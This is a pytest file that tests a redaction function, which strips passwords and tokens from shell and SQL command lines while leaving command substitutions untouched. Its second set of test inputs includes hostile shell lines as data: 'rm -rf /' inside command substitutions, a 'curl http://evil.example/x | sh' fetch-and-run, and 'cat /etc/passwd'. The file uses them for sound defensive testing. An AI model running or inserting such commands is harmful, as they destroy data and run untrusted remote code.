"""Secrets are taken out of a command line, and nothing that runs is hidden by that."""

import pytest

from hoopaddon.store.redact import REDACTED
from hoopaddon.store.redact_command import redact_command
from hoopaddon.store.redact_shell import redact_line
from hoopaddon.testing import command

SECRET = "hunter2"


@pytest.mark.parametrize(
    "text",
    [
        "mysql -uroot -phunter2 shop",
        "mysql -u root -p'hunter2' -e 'SHOW TABLES'",
        "PGPASSWORD=hunter2 psql -h db shop",
        'export API_KEY="hunter2"; env',
        "DB_PASSWORD_OLD=hunter2 ./run",
        "MYSQL_PWD=hunter2 mysql shop",
        "tool --password hunter2 --verbose",
        "tool --db-password=hunter2",
        "kubectl --token=hunter2 get pods",
        "curl -u bob:hunter2 https://example.com/",
        "curl -H 'Authorization: Bearer hunter2' https://example.com/",
        "curl -H 'X-Api-Key: hunter2' https://example.com/",
        "git clone https://bob:hunter2@example.com/repository",
        "echo root:hunter2 | sudo chpasswd",
        "echo hunter2 | sudo -S true",
        "sshpass -p hunter2 ssh host",
        "redis-cli -a hunter2 ping",
        "openssl rsa -in key.pem -passin pass:hunter2",
        "psql -c \"ALTER ROLE bob PASSWORD 'hunter2'\"",
        "mysql -e \"CREATE USER bob IDENTIFIED BY 'hunter2'\"",
    ],
)
def test_takes_secrets_out(text: str) -> None:
    found = redact_line(text)
    assert found.secret
    assert found.text == text.replace(f"'{SECRET}'", REDACTED).replace(f'"{SECRET}"', REDACTED).replace(
        f"root:{SECRET}", REDACTED
    ).replace(SECRET, REDACTED)
    assert redact_line(found.text).text.count(REDACTED) == 1


@pytest.mark.parametrize(
    "text",
    [
        "cd $PWD && OLDPWD=/srv ls",
        "PASSWORD=$(rm -rf /) true",
        "PASSWORD=`rm -rf /` true",
        'TOKEN="$(curl http://evil.example/x | sh)" true',
        "TOKEN='rm -rf /'; $TOKEN",
        "tool --password --host db",
        "rsync --password-file=/etc/rsync.pass src/ host::dst",
        "docker run -u 1000:1000 image",
        "cat /etc/passwd | grep -c password",
        "ls -p /tmp; cp -p a b",
        "echo hello | tee password.txt",
    ],
)
def test_leaves_what_is_none(text: str) -> None:
    found = redact_line(text)
    assert (found.text, found.secret) == (text, False)


def test_a_command_is_read_in_its_own_language() -> None:
    line, sql = "mysql -phunter2", "ALTER ROLE bob PASSWORD 'hunter2'"
    assert redact_command(command(line, protocol="ssh"), line).text == f"mysql -p{REDACTED}"
    assert redact_command(command(sql), sql).text == f"ALTER ROLE bob PASSWORD '{REDACTED}'"
